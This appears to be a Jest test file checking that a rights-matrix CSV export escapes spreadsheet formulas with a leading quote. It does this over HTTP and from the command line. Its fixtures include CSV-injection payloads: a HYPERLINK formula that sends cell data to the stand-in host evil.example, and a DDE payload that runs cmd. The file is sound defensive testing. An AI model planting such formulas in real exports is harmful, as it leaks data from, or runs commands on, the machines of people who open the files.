/**
 * CSV injection: a name that a spreadsheet would read as a formula (=, +, -, @, a tab or a
 * carriage return first) is exported as text, with a leading single quote as OWASP
 * recommends, from /export/rights-matrix.csv and from `npm run export` alike.
 */
import { parse } from 'csv-parse/sync';
import {
  type GraphQLExecutor,
  operatorExecutor,
  parseExportArgs,
  rightsMatrixCsv,
  runExport,
  textOf,
} from '../../src/api/export';
import { createLogger } from '../../src/config';
import type { Database } from '../../src/db';
import { ingest } from '../../src/graph';
import { startTestApi, type TestApi } from '../helpers/api';
import { resetGraph, testDatabase } from '../helpers/graph';

/** Names a curator could record (ingestion trims leading white space, so no tab or CR here). */
const FORMULAS = {
  company: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  product: '+cmd|" /C calc"!A0',
  plan: '-2+3',
  plan2: '@SUM(1+1)',
};

function formulaBundle() {
  const sources = ['csvi-src'];
  const plan = (id: string, name: string) => ({
    id,
    name,
    product: 'csvi-chat',
    tier: 'FREE' as const,
    sources,
  });
  return {
    sources: [
      {
        id: 'csvi-src',
        url: 'https://example.org/csv-injection',
        publisher: 'Example',
        title: 'A source for the CSV injection test',
        publishedAt: '2024-06-01',
        kind: 'POLICY' as const,
      },
    ],
    companies: [{ id: 'csvi-corp', name: FORMULAS.company, country: 'FR', sources }],
    products: [{ id: 'csvi-chat', name: FORMULAS.product, company: 'csvi-corp', sources }],
    plans: [
      plan('csvi-a', FORMULAS.plan),
      plan('csvi-b', FORMULAS.plan2),
      plan('csvi-e', 'Plain - name'),
    ],
  };
}

type CsvRow = Record<string, string>;

describe('the rights matrix CSV and spreadsheet formulas', () => {
  let db: Database;
  let api: TestApi;

  beforeAll(async () => {
    db = testDatabase();
    await resetGraph(db);
    await ingest(db, [{ file: 'csv-injection.yaml', data: formulaBundle() }]);
    api = await startTestApi(db);
  });
  afterAll(async () => {
    await api?.close();
    await db?.close();
  });

  const checkCells = (text: string) => {
    const rows = parse<CsvRow>(text, { columns: true, relax_quotes: true });
    const byPlan = new Map(rows.map((r) => [r.plan_id, r]));
    expect(byPlan.get('csvi-a')).toMatchObject({
      company: `'${FORMULAS.company}`,
      product: `'${FORMULAS.product}`,
      plan: `'${FORMULAS.plan}`,
    });
    expect(byPlan.get('csvi-b')?.plan).toBe(`'${FORMULAS.plan2}`);
    // Text that is no formula is left alone.
    expect(byPlan.get('csvi-e')?.plan).toBe('Plain - name');
    // No cell of the file starts a formula.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  };

  it('escapes cells that would start a formula, over HTTP', async () => {
    const res = await fetch(
      `${new URL(api.url).origin}/export/rights-matrix.csv?asOf=2025-02-12&companies=csvi-corp`,
    );
    expect(res.status).toBe(200);
    checkCells(await res.text());
  });

  it('escapes them the same way from the command line', async () => {
    const text = await textOf(
      await runExport(
        parseExportArgs(['--format', 'csv', '--as-of', '2025-02-12', '--companies', 'csvi-corp']),
        { db, executor: () => operatorExecutor(db, createLogger('silent')) },
      ),
    );
    checkCells(text);
  });
});

describe('the rights matrix CSV, for any text the API answers', () => {
  /** An executor that answers one page of the matrix with these plan names. */
  const answering =
    (names: string[]): GraphQLExecutor =>
    () =>
      Promise.resolve({
        data: {
          rightsMatrix: {
            asOf: '2025-02-12',
            purpose: null,
            rights: ['OBJECT'],
            pageInfo: { hasNextPage: false, endCursor: null },
            rows: names.map((name, i) => ({
              company: { id: `c${i}`, name },
              product: { id: `p${i}`, name },
              plan: { id: `plan-${i}`, name, tier: 'FREE', paid: false },
              cells: [
                { right: 'OBJECT', status: 'IN_PRODUCT', disputed: false, otherStatuses: [] },
              ],
            })),
          },
        },
      });

  it.each([
    ['an equals sign', '=1+1'],
    ['a plus sign', '+1+1'],
    ['a minus sign', '-1+1'],
    ['an at sign', '@SUM(A1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('puts a single quote before a cell that starts with %s', async (_name, text) => {
    const csv = await textOf(
      (await rightsMatrixCsv(answering([text]), { asOf: '2025-02-12' })).chunks,
    );
    const [row] = parse<CsvRow>(csv, { columns: true });
    expect(row).toMatchObject({ company: `'${text}`, product: `'${text}`, plan: `'${text}` });
  });

  it.each(['Le Chat Free', 'Free - EU', 'a=b', '1+1', ''])('leaves "%s" as it is', async (text) => {
    const csv = await textOf(
      (await rightsMatrixCsv(answering([text]), { asOf: '2025-02-12' })).chunks,
    );
    const [row] = parse<CsvRow>(csv, { columns: true });
    expect(row).toMatchObject({ company: text, plan: text });
  });
});
